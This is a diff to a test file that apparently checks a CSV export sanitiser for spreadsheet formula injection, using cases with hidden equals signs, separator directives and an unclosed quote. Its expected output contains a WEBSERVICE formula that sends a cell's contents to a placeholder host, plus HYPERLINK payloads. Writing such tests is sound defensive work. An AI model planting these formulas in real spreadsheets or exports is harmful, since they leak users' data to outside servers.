@@ -34,6 +34,14 @@ test.each([
   ['+49 30 123', '+49 30 123'],
   ['1e-3,-1E+5', '1e-3,-1E+5'],
   ['"a, =b"', '"a, =b"'],
+  ['\ufeff=HYPERLINK("x")', `\ufeff'=HYPERLINK("x")`],
+  ['sep=|\na|=HYPERLINK("x")', `sep=|\na|'=HYPERLINK("x")`],
+  ['＝1+1', "\ufeff'＝1+1"],
+  ['a\tb\n1\tgood, -really nice; =) smile', 'a\tb\n1\tgood, -really nice; =) smile'],
+  ['a;b\n1;Hi, @Anna', 'a;b\n1;Hi, @Anna'],
+  ['-10 EUR', '-10 EUR'],
+  ['+49-170-1234567', '+49-170-1234567'],
+  ['"a""b,=1",=2', `"a""b,=1",'=2`],
   [
     formulas,
     `n,note\n1,'=HYPERLINK("x")\n-2.5,"'=WEBSERVICE(""http://e.example/""&A1)"\n+4 %,'@SUM(1)\n-,"'\t=1"\n'-1+2,a-b\n`,
@@ -46,4 +54,9 @@ test('R13.4 tables without text from outside, the person’s own and files that 
   expect(downloaded({ name: 'a.csv', content: formulas })).toBe(formulas);
   expect(downloaded({ name: 'a.csv', content: formulas, foreign: true, added: true })).toBe(formulas);
   expect(downloaded({ name: 'a.md', content: formulas, foreign: true })).toBe(formulas);
+});
+
+test('R13.4 a quote that is never closed is no long work', () => {
+  const long = `a,b\n1,"${'x'.repeat(200_000)}\n=1,=2`;
+  expect(downloaded({ name: 'a.csv', content: long, foreign: true })).toBe(long.replace('=1,=2', "'=1,'=2"));
 });
